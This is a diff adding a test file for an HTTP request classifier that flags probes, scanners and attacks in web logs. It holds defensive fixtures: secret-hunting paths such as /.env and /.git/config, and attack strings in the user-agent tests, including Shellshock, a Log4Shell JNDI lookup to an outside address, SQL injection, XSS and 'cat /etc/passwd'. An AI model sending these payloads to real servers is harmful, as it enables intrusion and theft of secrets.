@@ -1,0 +1,169 @@
+import { describe, expect, test } from 'vitest';
+import { judgeRequest, type Verdict } from './judge.ts';
+
+const BROWSER = 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0';
+
+interface Parts {
+  readonly method?: string;
+  readonly status?: number;
+  readonly referrer?: string;
+  readonly userAgent?: string;
+  readonly version?: string;
+}
+
+function judge(target: string, parts: Parts = {}): Verdict | null {
+  const { method = 'GET', status = 200, referrer = '', userAgent = BROWSER, version = '1.1' } = parts;
+  return judgeRequest({
+    request: `${method} ${target} HTTP/${version}`,
+    method,
+    target,
+    version,
+    status,
+    referrer,
+    userAgent,
+  });
+}
+
+const value = (text: string) => `/item?x=${encodeURIComponent(text)}`;
+
+/** Honest texts that resemble attacks. */
+const LOOK_ALIKES: readonly string[] = [
+  "o'brien",
+  'select union station',
+  'union square or airbnb',
+  'drop table saw',
+  'rock & roll',
+  'a < b and b > c',
+  '"foo" or "bar"',
+  'status = "Open" AND priority = High ORDER BY created',
+  "Price gt 20 and startswith(Name,'A')",
+  '{"where":{"price":{"gte":10}}}',
+  "it's 5 o'clock",
+  '5 > 3',
+  'List<String>',
+  'how to use <div> tags',
+  'javascript: the good parts',
+  'alert (1990 film)',
+  'eval meaning',
+  'script fonts',
+  'C:\\Windows\\System32 explained',
+  '/docs/help.md',
+  'https://www.example.org/a?b=c&d=e',
+  'tips; tricks',
+  'Tools | PHP',
+  'date & time',
+  'cat food',
+  'find my phone',
+  'wget windows',
+  '(a+b)*c',
+  '{{username}}',
+  '100% cotton',
+  'f(x) = x*2',
+  'time.sleep(5) python',
+  'std::string',
+  '(red or blue) and shirt',
+  'sum(rate(http_requests_total{job="api"}[5m])) by (code)',
+  '{ viewer { login repositories(first: 10) { nodes { name } } } }',
+  'Thanks!\r\nBest, Tom',
+  'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl',
+  'Москва',
+  '2024-05-01T12:00:00+02:00',
+  '"exact phrase" -word',
+  'system of a down',
+  '>=1.2.0 <2.0.0',
+  '2 or 3 bedroom flat',
+  "D'Arlon, 999 rue",
+  'java.lang.NullPointerException',
+];
+
+describe('honest look-alikes', () => {
+  test.each(LOOK_ALIKES)('%s', (text) => {
+    expect(judge(value(text))).toBeNull();
+    expect(judge(`/search?q=${encodeURIComponent(text).replace(/%20/g, '+')}`)).toBeNull();
+  });
+});
+
+describe('paths', () => {
+  test.each([
+    '/.env',
+    '/.git/config',
+    '/wp-config.php.bak',
+    '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
+    '/_ignition/execute-solution',
+    '/backup.sql',
+    '/setup.cgi?next_file=a&todo=syscmd',
+    '/HNAP1/',
+    '/shell.php',
+    '/autodiscover/autodiscover.json?a',
+  ])('%s is hostile whatever the answer', (target) => {
+    expect(judge(target, { status: 200 })?.alert).toBe(true);
+  });
+
+  test.each(['/phpmyadmin/', '/PMA2020/index.php', '/wp-login.php', '/solr/', '/cgi-bin/test.cgi'])(
+    '%s is a probe only where it is not there',
+    (target) => {
+      expect(judge(target, { status: 404 })?.categories).toEqual(['probe']);
+      expect(judge(target, { status: 200 })).toBeNull();
+      expect(judge(target, { status: 404, referrer: 'https://www.example.org/links' })).toBeNull();
+    },
+  );
+
+  test.each([
+    '/',
+    '/robots.txt',
+    '/.well-known/security.txt',
+    '/user/repo/raw/main/.env.example',
+    '/wp-content/themes/a/style.css',
+  ])('%s is nobody’s attack', (target) => {
+    expect(judge(target, { status: 404 })).toBeNull();
+  });
+
+  test('a login is marked, not blamed', () => {
+    expect(judge('/wp-login.php', { method: 'POST' })).toMatchObject({ alert: false, categories: ['login'] });
+  });
+});
+
+describe('tools and form', () => {
+  test.each([
+    'sqlmap/1.8#stable',
+    'Mozilla/5.00 (Nikto/2.5.0)',
+    'Nuclei - Open-source project',
+    'masscan/1.3',
+    'Mozilla/5.0 zgrab/0.x',
+  ])('%s', (userAgent) => {
+    expect(judge('/', { userAgent })?.categories).toEqual(['scanner']);
+  });
+
+  test.each([
+    'curl/8.5.0',
+    'Wget/1.21.4',
+    'python-requests/2.32.3',
+    BROWSER,
+    'Mozilla/5.0 (X11; U; Linux i686; id; rv:1.9.0.1) Gecko/2008072820',
+  ])('%s is honest', (userAgent) => {
+    expect(judge('/', { userAgent })).toBeNull();
+  });
+
+  test.each([
+    '() { :;}; /bin/id',
+    '${jndi:ldap://198.51.100.9/a}',
+    "1' or '1'='1",
+    '<script>alert(1)</script>',
+    'cat /etc/passwd',
+  ])('an attack in the agent: %s', (userAgent) => {
+    expect(judge('/', { userAgent })?.alert).toBe(true);
+    expect(judge('/', { referrer: `http://x/?${userAgent}` })?.alert).toBe(true);
+  });
+
+  test('methods, versions and requests that are not HTTP', () => {
+    expect(judge('/', { method: 'TRACE' })?.categories).toEqual(['protocol']);
+    expect(judge('/', { version: '1.2' })?.categories).toEqual(['protocol']);
+    expect(judge('192.0.2.9:25', { method: 'CONNECT', status: 405 })?.categories).toEqual(['proxy']);
+    const malformed = (request: string) =>
+      judgeRequest({ request, method: '', target: '', version: '', status: 400, referrer: '', userAgent: '' });
+    expect(malformed('\u0016\u0003\u0001')?.names).toEqual(['TLS where none is spoken']);
+    expect(malformed('\u0003\0\0/*Cookie: mstshash=a')?.names).toEqual(['RDP probe']);
+    expect(malformed('')).toBeNull();
+    expect(malformed('-')).toBeNull();
+  });
+});
